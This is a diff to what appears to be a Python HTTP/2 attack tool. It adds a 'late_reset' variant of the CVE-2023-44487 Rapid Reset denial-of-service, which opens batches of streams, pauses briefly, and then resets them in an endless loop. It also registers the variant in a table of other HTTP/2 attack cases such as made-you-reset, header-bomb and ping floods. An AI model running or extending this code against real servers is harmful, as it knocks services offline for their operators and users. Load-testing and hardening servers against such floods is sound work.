@@ -35,6 +35,17 @@ def rapid_reset(client):
         yield b"".join(h + frame(RST_STREAM, 0, s, (8).to_bytes(4, "big")) for h, s in zip(heads, streams))
 
 
+def late_reset(client):
+    """CVE-2023-44487 with a pause before the resets, so that each request has begun upstream."""
+    first = 1
+    while True:
+        heads, streams = requests(client, "/hang", 50, first)
+        first = streams[-1] + 2
+        yield b"".join(heads)
+        time.sleep(0.005)
+        yield b"".join(frame(RST_STREAM, 0, s, (8).to_bytes(4, "big")) for s in streams)
+
+
 def zero_increment(client):
     """A WINDOW_UPDATE of nothing: made-you-reset where a server resets the stream for it; here it ends everything."""
     first = 1
@@ -258,8 +269,8 @@ class Attack:
 
 
 CASES = {
-    "rapid-reset": rapid_reset, "made-you-reset": made_you_reset, "long-body": long_body, "bad-field": bad_field,
-    "zero-increment": zero_increment, "data-behind-end": data_behind_end,
+    "rapid-reset": rapid_reset, "late-reset": late_reset, "made-you-reset": made_you_reset, "long-body": long_body,
+    "bad-field": bad_field, "zero-increment": zero_increment, "data-behind-end": data_behind_end,
     "continuation": continuation, "empty-continuation": empty_continuation, "header-bomb": header_bomb,
     "settings": settings, "ping": ping, "unread-ping": unread_ping, "priority": priority, "unknown": unknown,
     "window-updates": window_updates, "empty-data": empty_data, "padded-data": padded_data,
